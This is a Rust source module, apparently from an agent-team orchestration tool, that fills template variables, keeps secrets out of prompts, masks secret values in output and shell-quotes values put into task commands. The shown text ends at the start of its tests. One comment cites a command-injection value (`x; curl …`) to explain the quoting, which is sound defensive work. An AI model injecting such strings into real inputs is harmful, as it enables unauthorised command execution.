//! Variables and secrets of a team: `[variables]` and `--var` fill `{{KEY}}` placeholders in
//! text (the goal, system prompts, tasks' titles, descriptions and `run` commands);
//! `[secrets]` and `--secret` reach only the environment of task commands and are never put
//! into text.
//!
//! The syntax: `{{KEY}}` (spaces or tabs around `KEY` allowed, `{{ KEY }}`) where `KEY` is
//! `[A-Za-z_][A-Za-z0-9_]*`; `{{{{` is a literal `{{`; any other `{{` (e.g. `${{ a.b }}`) is
//! plain text. Built-ins: `date` (YYYY-MM-DD, the local date when the team was started),
//! `team`, `workspace`, and in system prompts only `agent` and `role`.
//!
//! Where each text is filled (and so what keeps working after a daemon restart): the goal by
//! whoever starts the run ([`fill_goal`], [`team_goal`]); every task as the daemon creates it
//! ([`fill_task_text`]: the team file's tasks, `agent-team task add`, the leader's
//! `create_task`); a system prompt by the agent that uses it ([`fill_prompt`]). The stored
//! configuration keeps the templates and the values ([`TeamConfig::variables`]); every
//! placeholder is checked when the team starts ([`apply_variables`]).

use crate::{ConfigError, Role, TeamConfig};
use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::{Path, PathBuf};

/// The built-in variables, in the order error messages list them.
pub const BUILTIN_VARIABLES: [&str; 5] = ["date", "team", "workspace", "agent", "role"];

/// The built-ins known only per agent (in system prompts).
const PER_AGENT: [&str; 2] = ["agent", "role"];

/// Secret values shorter than this are not masked in command output (masking `1` or `ab`
/// would garble every line).
pub const MIN_MASKED_SECRET: usize = 4;

/// Whether `key` may name a variable or secret: `[A-Za-z_][A-Za-z0-9_]*`.
pub fn is_valid_key(key: &str) -> bool {
    let mut b = key.bytes();
    b.next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
        && b.all(|c| c.is_ascii_alphanumeric() || c == b'_')
}

/// Why `key` cannot name a user variable or secret, if it cannot.
pub fn check_key(key: &str) -> Result<(), String> {
    if !is_valid_key(key) {
        return Err(format!(
            "invalid variable name {key:?}: use letters, digits and `_`, not starting with a digit"
        ));
    }
    if BUILTIN_VARIABLES.contains(&key) {
        let hint = if CALLER_BUILTINS.contains(&key) {
            format!(" (`--var {key}=VALUE` sets it for one start)")
        } else {
            String::new()
        };
        return Err(format!(
            "{key:?} is a built-in variable ({}); choose another name{hint}",
            BUILTIN_VARIABLES.join(", ")
        ));
    }
    if key.starts_with("AGENT_TEAM_") {
        return Err(format!(
            "{key:?}: names starting with AGENT_TEAM_ belong to agent-team"
        ));
    }
    Ok(())
}

/// The built-ins a caller's variable may set for one start (`--var`, a request's `variables`,
/// the Python package's `variables` and NexAU's `ContextValue(template=...)`): the caller's
/// value is used instead of the built-in in every text. NexAU's own example passes
/// `template={"date": ...}`. `agent` and `role` are filled per agent and cannot be set; the
/// team file's `[variables]` cannot set any built-in (it would fix `date` for every start).
pub const CALLER_BUILTINS: [&str; 3] = ["date", "team", "workspace"];

/// Why `key` cannot name a variable a caller gives at start (`--var`, a request's
/// `variables`): [`check_key`], except that [`CALLER_BUILTINS`] are taken (the caller's value
/// wins over the built-in).
pub fn check_var_key(key: &str) -> Result<(), String> {
    if CALLER_BUILTINS.contains(&key) {
        return Ok(());
    }
    if PER_AGENT.contains(&key) {
        return Err(format!(
            "{key:?} is a built-in filled for each agent in its system prompt; choose another name"
        ));
    }
    check_key(key)
}

/// Splits a `KEY=VALUE` argument (`--secret`); the key is checked with [`check_key`].
pub fn parse_assignment(arg: &str) -> Result<(String, String), String> {
    let Some((k, v)) = arg.split_once('=') else {
        return Err(format!("expected KEY=VALUE, got {arg:?}"));
    };
    check_key(k)?;
    Ok((k.to_string(), v.to_string()))
}

/// Splits a `--var KEY=VALUE` argument; the key is checked with [`check_var_key`] (a caller may
/// set `date`, `team` or `workspace`).
pub fn parse_var_assignment(arg: &str) -> Result<(String, String), String> {
    let Some((k, v)) = arg.split_once('=') else {
        return Err(format!("expected KEY=VALUE, got {arg:?}"));
    };
    check_var_key(k)?;
    Ok((k.to_string(), v.to_string()))
}

/// One part of a template.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Piece<'a> {
    /// Text as it is.
    Text(&'a str),
    /// A placeholder naming a variable, at this byte offset of the template.
    Var(&'a str, usize),
}

/// The placeholder starting at byte `i` of `text` (which starts with `{{` there): its name and
/// the offset just after its `}}`.
fn placeholder_at(text: &str, i: usize) -> Option<(&str, usize)> {
    let b = text.as_bytes();
    let mut j = i + 2;
    while matches!(b.get(j), Some(b' ' | b'\t')) {
        j += 1;
    }
    let start = j;
    if !b
        .get(j)
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        return None;
    }
    while b
        .get(j)
        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
    {
        j += 1;
    }
    let end_name = j;
    while matches!(b.get(j), Some(b' ' | b'\t')) {
        j += 1;
    }
    if b.get(j) == Some(&b'}') && b.get(j + 1) == Some(&b'}') {
        Some((&text[start..end_name], j + 2))
    } else {
        None
    }
}

/// Cuts a template into text and placeholders (`{{{{` becomes a literal `{{`).
fn pieces(text: &str) -> Vec<Piece<'_>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let (mut i, mut start) = (0, 0);
    while i + 1 < b.len() {
        if b[i] == b'{' && b[i + 1] == b'{' {
            if text[i..].starts_with("{{{{") {
                out.push(Piece::Text(&text[start..i]));
                out.push(Piece::Text("{{"));
                i += 4;
                start = i;
                continue;
            }
            if let Some((name, end)) = placeholder_at(text, i) {
                out.push(Piece::Text(&text[start..i]));
                out.push(Piece::Var(name, i));
                i = end;
                start = i;
                continue;
            }
        }
        i += 1;
    }
    out.push(Piece::Text(&text[start..]));
    out.retain(|p| *p != Piece::Text(""));
    out
}

/// The names of the placeholders in `text`, each with its byte offset.
pub fn placeholders(text: &str) -> Vec<(String, usize)> {
    pieces(text)
        .into_iter()
        .filter_map(|p| match p {
            Piece::Var(n, at) => Some((n.to_string(), at)),
            Piece::Text(_) => None,
        })
        .collect()
}

/// Why a placeholder has no value.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Missing {
    /// No variable of that name.
    Unknown,
    /// It names a secret: secrets never go into text.
    Secret,
    /// `agent` or `role` outside a system prompt.
    PerAgent,
}

/// Who a text is filled for: the whole team, or one agent (system prompts).
#[derive(Debug, Clone, Copy)]
enum Scope<'a> {
    Team,
    Agent {
        agent: &'a str,
        role: &'a str,
        workspace: &'a Path,
    },
    /// The coordinator's prompt: the team's variables and the round's own values.
    Coordinator {
        values: &'a [(&'a str, &'a str)],
    },
}

/// The placeholders the coordinator's prompt has besides the team's variables.
pub const COORDINATOR_PLACEHOLDERS: [&str; 3] = ["worker_descriptions", "task", "prior_outputs"];

fn lookup(cfg: &TeamConfig, scope: Scope<'_>, name: &str) -> Result<String, Missing> {
    if cfg.secrets.contains_key(name) {
        return Err(Missing::Secret);
    }
    if let Scope::Coordinator { values } = scope
        && let Some((_, v)) = values.iter().find(|(k, _)| *k == name)
    {
        return Ok(v.to_string());
    }
    if let Some(v) = cfg.variables.get(name) {
        return Ok(v.clone());
    }
    match (name, scope) {
        ("date", _) => Ok(local_date()),
        ("team", _) => Ok(cfg.name.clone()),
        ("workspace", Scope::Agent { workspace, .. }) => Ok(workspace.display().to_string()),
        ("workspace", Scope::Team | Scope::Coordinator { .. }) => {
            Ok(cfg.workspace.display().to_string())
        }
        ("agent", Scope::Agent { agent, .. }) => Ok(agent.to_string()),
        ("role", Scope::Agent { role, .. }) => Ok(role.to_string()),
        ("agent" | "role", Scope::Team | Scope::Coordinator { .. }) => Err(Missing::PerAgent),
        _ => Err(Missing::Unknown),
    }
}

/// The names a text of `scope` may use, for error messages.
fn known(cfg: &TeamConfig, scope: Scope<'_>) -> String {
    let mut names: Vec<String> = BUILTIN_VARIABLES
        .iter()
        .filter(|b| matches!(scope, Scope::Agent { .. }) || !PER_AGENT.contains(b))
        .map(|b| b.to_string())
        .collect();
    if let Scope::Coordinator { values } = scope {
        names.extend(values.iter().map(|(k, _)| k.to_string()));
    }
    let user: BTreeSet<&String> = cfg
        .variables
        .keys()
        .filter(|k| !BUILTIN_VARIABLES.contains(&k.as_str()))
        .collect();
    names.extend(user.into_iter().cloned());
    names.join(", ")
}

fn explain(cfg: &TeamConfig, scope: Scope<'_>, name: &str, why: &Missing) -> String {
    match why {
        Missing::Unknown => format!(
            "unknown variable {{{{{name}}}}} (known: {}; write {{{{{{{{ for a literal {{{{)",
            known(cfg, scope)
        ),
        Missing::Secret => format!(
            "{{{{{name}}}}} names a secret, and secrets are never put into text (prompts, goals, \
             tasks); a task command reads it from its environment as ${name}"
        ),
        Missing::PerAgent => format!(
            "{{{{{name}}}}} is known only in system prompts (filled for each agent); known here: {}",
            known(cfg, scope)
        ),
    }
}

/// Fills `text` for `scope`; on a placeholder without a value, its name, offset and why.
fn render(
    cfg: &TeamConfig,
    scope: Scope<'_>,
    text: &str,
) -> Result<String, (String, usize, Missing)> {
    render_with(cfg, scope, text, |v| v.to_string())
}

/// [`render`], each value put in as `put` makes it.
fn render_with(
    cfg: &TeamConfig,
    scope: Scope<'_>,
    text: &str,
    put: fn(&str) -> String,
) -> Result<String, (String, usize, Missing)> {
    let mut out = String::with_capacity(text.len());
    for p in pieces(text) {
        match p {
            Piece::Text(t) => out.push_str(t),
            Piece::Var(name, at) => match lookup(cfg, scope, name) {
                Ok(v) => out.push_str(&put(&v)),
                Err(why) => return Err((name.to_string(), at, why)),
            },
        }
    }
    Ok(out)
}

/// Where a text field of the team came from (for error messages; never stored).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Origin {
    /// The file.
    pub file: PathBuf,
    /// The line its value starts on, from 1.
    pub line: usize,
}

/// Where each text field of a team came from, by field name (`goal`,
/// `roles.NAME.system_prompt`, `tasks.KEY.title`, `secrets.KEY`, …). Filled when a team file
/// is read; empty for a stored configuration. Not part of a configuration's identity: two
/// configurations that differ only here are equal.
#[derive(Debug, Clone, Default)]
pub struct Origins(BTreeMap<String, Origin>);

impl PartialEq for Origins {
    fn eq(&self, _: &Self) -> bool {
        true
    }
}

impl Origins {
    /// Records where `field` starts.
    pub fn set(&mut self, field: String, file: &Path, line: usize) {
        self.0.insert(
            field,
            Origin {
                file: file.to_path_buf(),
                line,
            },
        );
    }

    /// Where `field` starts, if known.
    pub fn get(&self, field: &str) -> Option<&Origin> {
        self.0.get(field)
    }
}

/// An error about `field`, located at the line of byte `at` of its value `text`.
fn field_error(
    cfg: &TeamConfig,
    field: &str,
    text: &str,
    at: usize,
    message: String,
) -> ConfigError {
    let (file, line) = match cfg.origins.get(field) {
        Some(o) => (
            o.file.clone(),
            Some(o.line + text[..at.min(text.len())].matches('\n').count()),
        ),
        None => (PathBuf::new(), None),
    };
    ConfigError {
        file,
        line,
        col: None,
        field: Some(field.to_string()),
        message: format!("{field}: {message}"),
    }
}

fn check_text(
    cfg: &TeamConfig,
    scope: Scope<'_>,
    field: &str,
    text: &str,
) -> Result<(), ConfigError> {
    match render(cfg, scope, text) {
        Ok(_) => Ok(()),
        Err((name, at, why)) => Err(field_error(
            cfg,
            field,
            text,
            at,
            explain(cfg, scope, &name, &why),
        )),
    }
}

/// Merges `extra` (`--var`, the `variables` of an HTTP request) over the team's variables
/// (`[variables]`, or those a stored configuration kept), fixes `{{date}}` to today's local
/// date unless `extra` gives one (a caller may set [`CALLER_BUILTINS`]), and checks every placeholder of the goal, the system prompts and the team file's
/// tasks: an unknown variable, a secret or `{{agent}}` outside a prompt is an error naming
/// the file, the line and the field. Call it once the team's name, workspace and secrets
/// ([`resolve_secrets`]) are final; nothing is filled here (see the module docs).
pub fn apply_variables(
    cfg: &mut TeamConfig,
    extra: &BTreeMap<String, String>,
) -> Result<(), ConfigError> {
    apply_variables_on(cfg, extra, &local_date())
}

/// [`apply_variables`] with `{{date}}` given (tests).
pub fn apply_variables_on(
    cfg: &mut TeamConfig,
    extra: &BTreeMap<String, String>,
    date: &str,
) -> Result<(), ConfigError> {
    for (k, v) in extra {
        check_var_key(k).map_err(|m| ConfigError {
            file: PathBuf::new(),
            line: None,
            col: None,
            field: None,
            message: format!("--var {k}: {m}"),
        })?;
        cfg.variables.insert(k.clone(), v.clone());
    }
    // A date a caller gives is the run's; else today's (also over the one a stored
    // configuration kept from its last start).
    if !extra.contains_key("date") {
        cfg.variables.insert("date".into(), date.to_string());
    }
    if let Some(k) = cfg.variables.keys().find(|k| cfg.secrets.contains_key(*k)) {
        return Err(ConfigError {
            file: cfg
                .origins
                .get(&format!("secrets.{k}"))
                .map(|o| o.file.clone())
                .unwrap_or_default(),
            line: cfg.origins.get(&format!("secrets.{k}")).map(|o| o.line),
            col: None,
            field: Some(format!("secrets.{k}")),
            message: format!("{k:?} is both a variable and a secret; rename one"),
        });
    }
    check_all(cfg)
}

/// Checks every placeholder of the team's texts (see [`apply_variables`]).
fn check_all(cfg: &TeamConfig) -> Result<(), ConfigError> {
    if let Some(goal) = &cfg.goal {
        check_text(cfg, Scope::Team, "goal", goal)?;
    }
    for (name, role) in &cfg.roles {
        let scope = Scope::Agent {
            agent: name,
            role: name,
            workspace: &cfg.workspace,
        };
        check_text(
            cfg,
            scope,
            &format!("roles.{name}.system_prompt"),
            &role.system_prompt,
        )?;
    }
    let blanks: Vec<(&str, &str)> = COORDINATOR_PLACEHOLDERS.iter().map(|k| (*k, "")).collect();
    check_text(
        cfg,
        Scope::Coordinator { values: &blanks },
        "coordinator_prompt",
        &coordinator_template(&cfg.coordinator_prompt),
    )?;
    for t in &cfg.tasks {
        check_text(
            cfg,
            Scope::Team,
            &format!("tasks.{}.title", t.key),
            &t.title,
        )?;
        check_text(
            cfg,
            Scope::Team,
            &format!("tasks.{}.description", t.key),
            &t.description,
        )?;
        if let Some(run) = &t.run {
            check_text(cfg, Scope::Team, &format!("tasks.{}.run", t.key), run)?;
        }
    }
    Ok(())
}

/// A goal given on the command line or in a request, filled; an error names the field `goal`.
pub fn fill_goal(cfg: &TeamConfig, goal: &str) -> Result<String, ConfigError> {
    render(cfg, Scope::Team, goal).map_err(|(name, _, why)| ConfigError {
        file: PathBuf::new(),
        line: None,
        col: None,
        field: Some("goal".into()),
        message: format!("goal: {}", explain(cfg, Scope::Team, &name, &why)),
    })
}

/// The team file's `goal`, filled (an error names its file and line).
pub fn team_goal(cfg: &TeamConfig) -> Result<Option<String>, ConfigError> {
    let Some(goal) = &cfg.goal else {
        return Ok(None);
    };
    render(cfg, Scope::Team, goal)
        .map(Some)
        .map_err(|(name, at, why)| {
            field_error(
                cfg,
                "goal",
                goal,
                at,
                explain(cfg, Scope::Team, &name, &why),
            )
        })
}

/// A task's title, description or `run` command (`field` names which, for the message),
/// filled as the daemon creates the task.
pub fn fill_task_text(cfg: &TeamConfig, field: &str, text: &str) -> Result<String, String> {
    // A `run` command is shell: each value goes in as one word, quoted when it holds anything
    // the shell would read (a webhook's variable is text anyone can write, e.g. an issue's
    // title: `x; curl …` must stay text). A plain value goes in as it is.
    let quote = if field == "run" {
        agent_team_perms::shell::quote
    } else {
        |v: &str| v.to_string()
    };
    render_with(cfg, Scope::Team, text, quote)
        .map_err(|(name, _, why)| format!("{field}: {}", explain(cfg, Scope::Team, &name, &why)))
}

/// `role`'s system prompt filled for `agent` working in `workspace`. A placeholder without a
/// value (a configuration stored before the variable was removed) stays as written.
pub fn fill_prompt(cfg: &TeamConfig, role: &Role, agent: &str, workspace: &Path) -> String {
    let scope = Scope::Agent {
        agent,
        role: &role.name,
        workspace,
    };
    render(cfg, scope, &role.system_prompt).unwrap_or_else(|_| role.system_prompt.clone())
}

/// The coordinator's prompt for one round: the team's `coordinator_prompt` with
/// `{{worker_descriptions}}`, `{{task}}` and `{{prior_outputs}}` filled from these values and
/// the team's variables. A placeholder without a value (a configuration stored before the
/// variable was removed) stays as written.
pub fn fill_coordinator_prompt(
    cfg: &TeamConfig,
    worker_descriptions: &str,
    task: &str,
    prior_outputs: &str,
) -> String {
    let values = [
        ("worker_descriptions", worker_descriptions),
        ("task", task),
        ("prior_outputs", prior_outputs),
    ];
    let template = coordinator_template(&cfg.coordinator_prompt);
    render(cfg, Scope::Coordinator { values: &values }, &template)
        .unwrap_or_else(|_| template.into_owned())
}

/// `coordinator_prompt` as a template: lauren-ai's single-brace names (`{worker_descriptions}`,
/// `{task}`, `{prior_outputs}`) are read as `{{…}}`, so a prompt written for lauren is filled
/// as lauren fills it; any other `{name}` (and everything inside `{{…}}`) stays as written.
fn coordinator_template(text: &str) -> std::borrow::Cow<'_, str> {
    let bytes = text.as_bytes();
    let mut out = String::new();
    let mut copied = 0;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'{' && (i == 0 || bytes[i - 1] != b'{') {
            let rest = &text[i + 1..];
            let single = COORDINATOR_PLACEHOLDERS.iter().find(|name| {
                rest.strip_prefix(**name)
                    .and_then(|r| r.strip_prefix('}'))
                    .is_some_and(|after| !after.starts_with('}'))
            });
            if let Some(name) = single {
                out.push_str(&text[copied..i]);
                out.push_str("{{");
                out.push_str(name);
                out.push_str("}}");
                i += name.len() + 2;
                copied = i;
                continue;
            }
        }
        i += 1;
    }
    if copied == 0 {
        return std::borrow::Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    std::borrow::Cow::Owned(out)
}

/// `text` written so that filling it gives `text` back (every `{{` doubled): for text that is
/// not a template (a model's output) put where placeholders are filled (a task's description).
pub fn escape_placeholders(text: &str) -> String {
    text.replace("{{", "{{{{")
}

/// Where a secret's value comes from. Only names are kept: never a value.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SecretSource {
    /// The environment variable of the CLI that holds it (`[secrets] KEY = { env = "NAME" }`);
    /// none for a `--secret` given at start.
    #[serde(default)]
    pub env: Option<String>,
}

/// In the `given` map of [`resolve_secrets`], a key `env:NAME` is plain environment (`--env`,
/// a request's `env`, NexAU's `sandbox_env`): given to the agents' commands like a secret,
/// kept out of the store like one, but never masked, since it is not a secret.
pub use agent_team_protocol::names::PLAIN_ENV_PREFIX;

/// Secret values by name: what task commands get in their environment, masked in what they
/// print; and plain environment beside them (given to the commands, never masked). Its
/// `Debug` shows names only, so a value never reaches a log by accident; it is never
/// serialised with the team's configuration.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct Secrets(BTreeMap<String, String>, BTreeMap<String, String>);

impl fmt::Debug for Secrets {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_set().entries(self.keys()).finish()
    }
}

/// The secrets file's text: the secrets alone (as before plain environment existed), or both.
#[derive(Serialize, Deserialize)]
#[serde(untagged)]
enum SecretsFile {
    Both {
        secrets: BTreeMap<String, String>,
        env: BTreeMap<String, String>,
    },
    Secrets(BTreeMap<String, String>),
}

/// A secrets file that cannot be read back.
#[derive(Debug, thiserror::Error)]
#[error("bad secrets file: {0}")]
pub struct SecretsFileError(String);

impl Secrets {
    /// Secrets from name/value pairs.
    pub fn from_map(map: BTreeMap<String, String>) -> Self {
        Secrets(map, BTreeMap::new())
    }

    /// These secrets with `env` as plain environment beside them (never masked; a name that
    /// is also a secret stays the secret).
    pub fn with_env(mut self, env: BTreeMap<String, String>) -> Self {
        self.1 = env
            .into_iter()
            .filter(|(k, _)| !self.0.contains_key(k))
            .collect();
        self
    }

    /// Whether there are none (neither secrets nor plain environment).
    pub fn is_empty(&self) -> bool {
        self.0.is_empty() && self.1.is_empty()
    }

    /// The names, plain environment's first.
    pub fn keys(&self) -> impl Iterator<Item = &str> {
        self.1.keys().chain(self.0.keys()).map(String::as_str)
    }

    /// Name and value of each, plain environment's first: what a command's environment gets.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        self.1
            .iter()
            .chain(self.0.iter())
            .map(|(k, v)| (k.as_str(), v.as_str()))
    }

    /// The plain environment (names and values shown as they are).
    pub fn env(&self) -> &BTreeMap<String, String> {
        &self.1
    }

    /// The text of the team's secrets file (JSON), written 0600 into the runtime dir: the
    /// secrets as one object, or `{"secrets": …, "env": …}` when there is plain environment.
    pub fn to_file_text(&self) -> String {
        let file = if self.1.is_empty() {
            SecretsFile::Secrets(self.0.clone())
        } else {
            SecretsFile::Both {
                secrets: self.0.clone(),
                env: self.1.clone(),
            }
        };
        serde_json::to_string(&file).unwrap_or_else(|_| "{}".into())
    }

    /// Reads the text [`Secrets::to_file_text`] wrote.
    pub fn from_file_text(text: &str) -> Result<Self, SecretsFileError> {
        match serde_json::from_str(text) {
            Ok(SecretsFile::Both { secrets, env }) => {
                Ok(Secrets(secrets, BTreeMap::new()).with_env(env))
            }
            Ok(SecretsFile::Secrets(s)) => Ok(Secrets::from_map(s)),
            Err(e) => Err(SecretsFileError(e.to_string())),
        }
    }

    /// `text` with every secret value of at least [`MIN_MASKED_SECRET`] bytes replaced by
    /// `[secret KEY]`: what agents read back from their commands (task results, the `bash`
    /// tool's output, the agent's log). A value split over line breaks (`\n` or `\r\n`) is
    /// found too and replaced whole, in its first line.
    pub fn mask<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if !self.0.values().any(|v| v.len() >= MIN_MASKED_SECRET) {
            return Cow::Borrowed(text);
        }
        let mut lines: Vec<String> = text.split('\n').map(str::to_string).collect();
        if self.mask_lines(&mut lines) {
            Cow::Owned(lines.join("\n"))
        } else {
            Cow::Borrowed(text)
        }
    }

    /// The longest value masked (0 with none): how much text a value may still need beyond
    /// a point to be seen whole.
    pub fn longest(&self) -> usize {
        self.0
            .values()
            .map(String::len)
            .filter(|n| *n >= MIN_MASKED_SECRET)
            .max()
            .unwrap_or(0)
    }

    /// Masks every value in `lines` (consecutive lines of one text, without their `\n`),
    /// also one that runs from a line's end into the next lines: it is replaced in the line
    /// where it starts and removed from the others. Returns whether anything changed.
    pub fn mask_lines(&self, lines: &mut [String]) -> bool {
        let mut changed = false;
        for (k, v) in &self.0 {
            if v.len() < MIN_MASKED_SECRET {
                continue;
            }
            let placeholder = format!("[secret {k}]");
            let mut from = 0;
            loop {
                // The lines joined without their breaks (a `\r` before one is a break too),
                // and where each line starts in that join.
                let mut joined = String::new();
                let mut starts = Vec::with_capacity(lines.len());
                for l in lines.iter() {
                    starts.push(joined.len());
                    joined.push_str(content(l));
                }
                let Some(pos) = joined.get(from..).and_then(|rest| rest.find(v.as_str())) else {
                    break;
                };
                let pos = from + pos;
                let end = pos + v.len();
                let line_of = |at: usize| starts.iter().rposition(|s| *s <= at).unwrap_or(0);
                // The line where it starts: the last whose content holds byte `pos`.
                let first = (0..lines.len())
                    .rev()
                    .find(|i| starts[*i] <= pos && pos < starts[*i] + content(&lines[*i]).len())
                    .unwrap_or_else(|| line_of(pos));
                let last = (0..lines.len())
                    .rev()
                    .find(|i| starts[*i] < end && end <= starts[*i] + content(&lines[*i]).len())
                    .unwrap_or_else(|| line_of(end));
                if first == last {
                    let s = starts[first];
                    lines[first].replace_range(pos - s..end - s, &placeholder);
                } else {
                    let s = starts[first];
                    let n = content(&lines[first]).len();
                    lines[first].replace_range(pos - s..n, &placeholder);
                    for line in lines.iter_mut().take(last).skip(first + 1) {
                        let n = content(line).len();
                        line.replace_range(..n, "");
                    }
                    let s = starts[last];
                    lines[last].replace_range(..end - s, "");
                }
                changed = true;
                from = pos + placeholder.len();
            }
        }
        changed
    }
}

impl Secrets {
    /// `line`, cut after at least `max` bytes, masked before it is cut: a value that starts
    /// before the cut is replaced whole, and the start of one the cut split is dropped.
    /// `line` must hold at least [`Secrets::longest`] bytes past `max` when it was longer.
    pub fn mask_and_cut(&self, line: &str, max: usize) -> (String, bool) {
        if line.len() <= max {
            return (self.mask(line).into_owned(), false);
        }
        let mut end = max.saturating_add(self.longest()).min(line.len());
        while !line.is_char_boundary(end) {
            end -= 1;
        }
        let mut out = self.mask(&line[..end]).into_owned();
        // What the cut left of a value: any end of the text that begins one.
        let tail = self
            .0
            .values()
            .filter(|v| v.len() >= MIN_MASKED_SECRET)
            .filter_map(|v| {
                (1..v.len())
                    .rev()
                    .filter(|n| v.is_char_boundary(*n))
                    .find(|n| out.ends_with(&v[..*n]))
            })
            .max()
            .unwrap_or(0);
        out.truncate(out.len() - tail);
        (out, true)
    }
}

/// A line without the `\r` that ended it, if any (the break of a `\r\n` line end).
fn content(line: &str) -> &str {
    line.strip_suffix('\r').unwrap_or(line)
}

/// Masks the team's secrets in a stream of lines (a command's output), also a value split
/// over line breaks: a line is handed on only once the lines after it are long enough that
/// no value starting in it can still run on into a line not yet seen, so the last line or
/// two wait for the next (or the end).
#[derive(Debug)]
pub struct LineMasker<'a> {
    /// The secrets.
    secrets: &'a Secrets,
    /// Lines seen and not handed on yet, masked as far as they go.
    held: std::collections::VecDeque<String>,
}

impl<'a> LineMasker<'a> {
    /// A masker of `secrets`.
    pub fn new(secrets: &'a Secrets) -> Self {
        LineMasker {
            secrets,
            held: std::collections::VecDeque::new(),
        }
    }

    /// Takes the next line (without its `\n`) and returns the lines now safe to hand on.
    pub fn push(&mut self, line: String) -> Vec<String> {
        self.held.push_back(line);
        let longest = self.secrets.longest();
        if longest == 0 {
            return self.finish();
        }
        self.secrets.mask_lines(self.held.make_contiguous());
        let mut ready = Vec::new();
        // The front line is safe when what follows it is at least a value long less a byte.
        loop {
            let after: usize = self.held.iter().skip(1).map(|l| content(l).len()).sum();
            if self.held.len() < 2 || after + 1 < longest {
                break;
            }
            if let Some(l) = self.held.pop_front() {
                ready.push(l);
            }
        }
        ready
    }

    /// The lines still held, at the end of the stream.
    pub fn finish(&mut self) -> Vec<String> {
        self.held.drain(..).collect()
    }
}

/// Resolves the team's secrets: `given` (`--secret`) over the team file's `[secrets]`, whose
/// values are read with `env` (the CLI's environment) now. A `given` key `env:NAME`
/// ([`PLAIN_ENV_PREFIX`], `--env`) is plain environment: `NAME` reaches the commands unmasked
/// and is not recorded as a secret. Records every name in
/// [`TeamConfig::secrets`] (so a placeholder naming one is refused) and returns the values,
/// which the caller hands to the agents without the store (docs/SECURITY.md). A `--secret`
/// of an earlier start that is not given again is dropped.
pub fn resolve_secrets(
    cfg: &mut TeamConfig,
    given: &BTreeMap<String, String>,
    env: impl Fn(&str) -> Option<String>,
) -> Result<Secrets, ConfigError> {
    cfg.secrets.retain(|_, s| s.env.is_some());
    let mut values = BTreeMap::new();
    for (k, s) in &cfg.secrets {
        if given.contains_key(k) {
            continue;
        }
        let Some(name) = &s.env else { continue };
        let field = format!("secrets.{k}");
        let origin = cfg.origins.get(&field);
        match env(name) {
            Some(v) => {
                values.insert(k.clone(), v);
            }
            None => {
                return Err(ConfigError {
                    file: origin.map(|o| o.file.clone()).unwrap_or_default(),
                    line: origin.map(|o| o.line),
                    col: None,
                    field: Some(field.clone()),
                    message: format!(
                        "{field}: the environment variable {name} is not set (export it before \
                         starting the team)"
                    ),
                });
            }
        }
    }
    let mut plain = BTreeMap::new();
    for (k, v) in given {
        if let Some(name) = k.strip_prefix(PLAIN_ENV_PREFIX) {
            check_key(name).map_err(|m| ConfigError {
                file: PathBuf::new(),
                line: None,
                col: None,
                field: None,
                message: format!("--env {name}: {m}"),
            })?;
            plain.insert(name.to_string(), v.clone());
            continue;
        }
        check_key(k).map_err(|m| ConfigError {
            file: PathBuf::new(),
            line: None,
            col: None,
            field: None,
            message: format!("--secret {k}: {m}"),
        })?;
        cfg.secrets
            .entry(k.clone())
            .or_insert(SecretSource { env: None });
        values.insert(k.clone(), v.clone());
    }
    Ok(Secrets(values, BTreeMap::new()).with_env(plain))
}

/// Today's date in the local time zone, as YYYY-MM-DD.
pub fn local_date() -> String {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0);
    let t = now + utc_offset(now);
    civil_date(t.div_euclid(86_400))
}

/// The local time zone's offset from UTC in seconds at `unix` (0 when it cannot be told).
#[allow(unsafe_code)]
fn utc_offset(unix: i64) -> i64 {
    let t: libc::time_t = unix as libc::time_t;
    // SAFETY: localtime_r writes only into the zeroed `tm` we own and reads only `t`.
    let mut tm: libc::tm = unsafe { std::mem::zeroed() };
    let ok = unsafe { !libc::localtime_r(&t, &mut tm).is_null() };
    if ok { tm.tm_gmtoff as i64 } else { 0 }
}

/// The proleptic Gregorian date of day `days` since 1970-01-01 (Howard Hinnant's algorithm).
fn civil_date(days: i64) -> String {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!("{y:04}-{m:02}-{d:02}")
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::teamfile::parse_team_file;

    fn parse(text: &str) -> TeamConfig {
        parse_team_file(Path::new("/w/team.toml"), text).unwrap()
    }

    fn vars(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    const TEAM: &str = r#"name = "web"
goal = "Ship {{ feature }} by {{date}}"

[variables]
feature = "login"
env = "staging"

[roles.builder]
system_prompt = """
You are {{agent}}, a {{role}} of team {{team}}.
Deploy to {{env}} from {{workspace}}; write {{{{literal}} and ${{ matrix.os }}."""

[[teammates]]
name = "b1"
role = "builder"

[[tasks]]
key = "deploy"
title = "Deploy {{feature}}"
description = "to {{env}}"
run = "echo {{env}} > out.txt"
"#;

    #[test]
    fn placeholders_are_filled_per_field_and_per_agent() {
